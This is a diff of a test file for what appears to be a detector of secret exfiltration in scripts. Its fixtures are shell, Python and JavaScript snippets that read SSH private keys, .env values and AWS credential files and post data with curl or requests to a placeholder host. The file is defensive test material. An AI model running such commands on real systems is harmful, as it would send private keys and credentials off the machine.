@@ -139,6 +139,11 @@ NOT_SENT = [
         'set -a; . ./.env; set +a\ncurl -H "X-Key: $KEY" -d @report.json https://x.example.net',
     ),
     ("a.sh", "f() { cat ~/.ssh/id_rsa 2>&1; }\ng() { curl -d $1 https://x.example.net; }\ng a"),
+    (
+        "a.sh",
+        "if [ -f ~/.ssh/id_rsa ]; then\n  echo yes\nfi | tee log\n"
+        "curl -d @log https://x.example.net",
+    ),
     ("a.sh", "cat ~/.ssh/id_rsa >&2\ncurl -d a https://x.example.net 2>&1"),
     ("a.sh", "ssh -i ~/.ssh/id_rsa host uptime\ncurl https://x.example.net/health"),
     ("a.sh", "curl --cert ~/.ssh/client.pem --key ~/.ssh/client.key https://x.example.net"),
@@ -320,7 +325,7 @@ def test_values_are_followed_from_script_to_script() -> None:
         "c.js": "function all() { return fs.readFileSync('/root/.aws/credentials'); }\n",
     }
     package = {
-        "MAIN.PY": "import os, tools.collect as c\nfrom requests import post\npost(U, data=c.all())\n",
+        "MAIN.PY": "import os, tools.collect as c\nfrom requests import post\npost(U, c.all())\n",
         "tools/collect.py": "def all():\n    return open('/root/.ssh/id_rsa').read()\n",
     }
     for scripts in (python, javascript, package):
